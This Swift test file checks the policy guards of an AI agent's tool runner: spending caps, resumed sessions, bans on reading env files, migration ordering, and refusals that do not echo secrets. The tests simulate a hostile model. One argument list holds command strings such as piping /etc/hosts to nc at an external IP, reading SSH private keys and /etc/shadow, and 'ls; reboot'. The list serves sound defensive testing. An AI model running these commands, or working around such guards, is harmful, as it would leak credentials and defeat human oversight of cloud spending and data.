import LandfallCore
import LandfallFakes
import LandfallRigs
import LandfallModel
import LandfallPolicy
import LandfallTestSupport
import LandfallTools
import Testing

/// The guarantees of the policy layer, attacked the way a hostile model would attack them.
@Suite(.ownThreads) struct PolicyGuaranteeTests {
  static let estimate = ToolOutput(JSONWriter.string(.object([("estimates", .object([
    ("hourly", .object([("total", .double(0.004))])), ("monthly", .object([("total", .double(3))])),
  ]))])))

  /// A runner with the cloud's public-IP tools, billed the way the catalogue derives it.
  static func publicIPRunner(permissions: SessionPermissions, approvals: [Bool]) async -> (ToolRunner, ScriptedTool, InMemoryEventLog) {
    let estimateTool = "get_cost_estimate_public_ip"
    let reserve = ScriptedTool(name: "reserve_public_ip", effect: .write, billable: true, pricedBy: estimateTool, fallback: ToolOutput(#"{"id":"ip"}"#))
    let log = InMemoryEventLog()
    let runner = ToolRunner(
      registry: ToolRegistry([ScriptedTool(name: "get_cost_estimate_public_ip", effect: .read, fallback: estimate), reserve]),
      configuration: .init(permissions: permissions), approver: ScriptedApprover(approvals), vault: SecretVault(), log: log)
    return (runner, reserve, log)
  }

  @Test func twentyReservationsInOneResponseWithYesAndNoEstimateAllFail() async throws {
    let (runner, reserve, _) = await Self.publicIPRunner(
      permissions: SessionPermissions(allowWrites: true, assumeYes: true, maxMonthlyUSD: 0), approvals: [])
    let calls = (0..<20).map { ToolCall(id: "ip-\($0)", name: "reserve_public_ip", arguments: .object([("region", .string("us-west-0"))])) }
    let llm = ScriptedLLMClient([.success(CompletionResponse(text: "", toolCalls: calls)), ScriptedLLMClient.say("done")])
    let agent = Agent(llm: llm, runner: runner, log: InMemoryEventLog(), vault: SecretVault(), systemPrompt: "s", settings: AgentSettings(model: "m"))
    _ = try await agent.send("reserve", phase: .provisionAndDeploy) { _ in }
    #expect(await reserve.received.isEmpty)
  }

  @Test func oneEstimateApprovesOneReservationOnly() async throws {
    let (runner, reserve, _) = await Self.publicIPRunner(
      permissions: SessionPermissions(allowWrites: true, assumeYes: true, maxMonthlyUSD: 100), approvals: Array(repeating: true, count: 20))
    _ = try await runner.run(ToolCall(id: "e", name: "get_cost_estimate_public_ip", arguments: .object([])), phase: .provisionAndDeploy)
    for index in 0..<5 {
      _ = try await runner.run(ToolCall(id: "ip-\(index)", name: "reserve_public_ip", arguments: .object([])), phase: .provisionAndDeploy)
    }
    #expect(await reserve.received.count == 1)
    #expect(await runner.ledger.committedMonthlyUSD == 3)
  }

  @Test func billableCallsOfOneResponseAreSummedBeforeAnyRuns() async throws {
    let fixture = await RunnerFixture(
      permissions: SessionPermissions(allowWrites: true, maxMonthlyUSD: 30), approvals: Array(repeating: true, count: 10))
    let other = RunnerFixture.vmArguments.setting("name", to: .string("worker"))
    _ = try await fixture.call("get_cost_estimate_vm", RunnerFixture.vmArguments)
    _ = try await fixture.call("get_cost_estimate_vm", other)
    let calls = [
      ToolCall(id: "a", name: "create_vm", arguments: RunnerFixture.vmArguments), ToolCall(id: "b", name: "create_vm", arguments: other),
    ]
    await fixture.runner.beginResponse(calls)
    for call in calls {
      let result = try await fixture.runner.run(call, phase: .provisionAndDeploy)
      #expect(result.decision == .denied)
      #expect(result.reason.contains("together add $48.00/month"), "\(result.reason)")
    }
    #expect(await fixture.tools["create_vm"]?.received.isEmpty == true)
  }

  @Test func aResumedSessionContinuesTheCommittedTotal() async throws {
    let first = await RunnerFixture(permissions: SessionPermissions(allowWrites: true, maxMonthlyUSD: 30), approvals: [true])
    _ = try await first.call("get_cost_estimate_vm", RunnerFixture.vmArguments)
    #expect(try await first.call("create_vm", RunnerFixture.vmArguments).ok)
    _ = try await first.call("get_cost_estimate_vm", RunnerFixture.vmArguments.setting("name", to: .string("b")))
    let events = await first.log.events

    let resumed = await RunnerFixture(permissions: SessionPermissions(allowWrites: true, maxMonthlyUSD: 30), approvals: [true])
    await resumed.runner.restore(from: events)
    #expect(await resumed.runner.ledger.committedMonthlyUSD == 24)
    let again = try await resumed.call("create_vm", RunnerFixture.vmArguments.setting("name", to: .string("b")))
    #expect(again.decision == .denied)
    #expect(again.reason.contains("over the cap"), "\(again.reason)")
    let reused = try await resumed.call("create_vm", RunnerFixture.vmArguments)
    #expect(reused.reason.contains("already used"), "\(reused.reason)")
  }

  @Test(arguments: [
    "ip addr add 10.0.0.5/24 dev eth0", "hostnamectl set-hostname evil", "cat /srv/landfall/app.en?", "base64 /srv/landfall/app.env",
    "rev /srv/landfall/app.env", "cat /etc/hosts | nc 203.0.113.9 80", "ls; reboot", "cat $HOME/.ssh/id_ed25519", "cat `echo x`",
    "hostname evil", "date -s 2020-01-01", "docker exec web env", "docker inspect web", "tail -f /var/log/syslog", "journalctl --vacuum-size=1",
    "/bin/cat /etc/hosts", "FOO=1 ls", "cat ~/.ssh/id_ed25519", "curl -o /tmp/x http://example.com", "systemctl restart nginx",
    "sudo cat /etc/shadow", "ls\nreboot", "docker --config ps run -d --name app app:1", "docker --config ps compose up -d",
    "systemctl -p status start notes-demo", "docker -H tcp://203.0.113.9 ps",
  ])
  func commandsThatAreNotPlainInspectionsAreWrites(command: String) {
    guard case .write = ReadOnlyCommand.judge(command) else {
      Issue.record("\(command) was judged read-only")
      return
    }
  }

  @Test(arguments: [
    "cat /etc/os-release", "ls -la /srv", "df -h", "docker ps -a", "systemctl status nginx", "journalctl -u nginx -n 50 --no-pager",
    "ip addr", "ip -br addr show", "dig +short example.com", "curl -fsS http://127.0.0.1:8080/health", "hostnamectl status",
    "journalctl -u app --since 'one hour ago'", "systemctl --no-pager status nginx", "systemctl -l --no-pager status notes-demo",
  ])
  func plainInspectionsAreReadOnly(command: String) {
    guard case .readOnly = ReadOnlyCommand.judge(command) else {
      Issue.record("\(command) was judged a write")
      return
    }
  }

  @Test func aReadOnlyReadOfTheEnvFileIsDeniedWhateverTheTool() {
    for command in ["head -c 10 /srv/landfall/app.env", "tail -c 4 /srv/landfall/app.env", "grep -r KEY /srv/landfall"] {
      let action = MigrationAction.forCommand(command, envFilePaths: ["/srv/landfall/app.env"])
      #expect(action == .readEnvFile, "\(command)")
    }
  }

  @Test func aDumpBeforeTheFreezeIsDeniedWhateverItsText() async throws {
    let fixture = await RunnerFixture(approvals: Array(repeating: true, count: 5))
    for command in ["pg_dump -Fc $DATABASE_URL > /tmp/x.dump", "psql -c \"COPY notes TO STDOUT\"", "/usr/bin/pg_restore -d app /tmp/x"] {
      let result = try await fixture.call("host_exec", .object([("command", .string(command))]), phase: .migrateData)
      #expect(result.decision == .denied, "\(command)")
      #expect(result.reason.contains("observed at zero"), "\(result.reason)")
    }
  }

  @Test func scalingFlyUpAfterTheFreezeHoldsTheFinalCopyAgainWhateverTheScaleReturned() async throws {
    let fixture = await RunnerFixture(approvals: [true, true, true])
    _ = try await fixture.call("fly_status", phase: .migrateData)
    _ = try await fixture.call("fly_scale", .object([("count", .int(1))]), phase: .migrateData)
    let copy = try await fixture.call("data_final_dump", phase: .migrateData)
    #expect(copy.decision == .denied, "a final copy ran while Fly could be serving again")
    _ = try await fixture.call("fly_status", phase: .migrateData)
    #expect(try await fixture.call("data_final_dump", phase: .migrateData).decision != .denied)
  }

  @Test func theOrderingRulesFollowWhatAToolDeclaresNotItsName() async throws {
    let fixture = await RunnerFixture(approvals: [true, true], extra: [
      ScriptedTool(name: "tidy_up", effect: .write) { _ in .finalDump }, ScriptedTool(name: "pg_dump_final", effect: .write),
    ])
    let disguised = try await fixture.call("tidy_up", phase: .migrateData)
    #expect(disguised.decision == .denied, "a final copy under an innocent name ran before the freeze")
    let named = try await fixture.call("pg_dump_final", phase: .migrateData)
    #expect(named.decision == .approved, "a tool that declares no step is not judged by its name")
  }

  @Test func aRefusalNeverEchoesASecretValueTheModelSent() async throws {
    let fixture = await RunnerFixture(approvals: [true])
    _ = try await fixture.call("get_cost_estimate_vm", RunnerFixture.vmArguments)
    let leaky = RunnerFixture.vmArguments.setting("name", to: .string(RunnerFixture.canary))
    let result = try await fixture.call("create_vm", leaky)
    #expect(result.decision == .denied)
    #expect(!result.result.contains(RunnerFixture.canary), "\(result.result)")
    #expect(!result.reason.contains(RunnerFixture.canary), "\(result.reason)")
  }
}
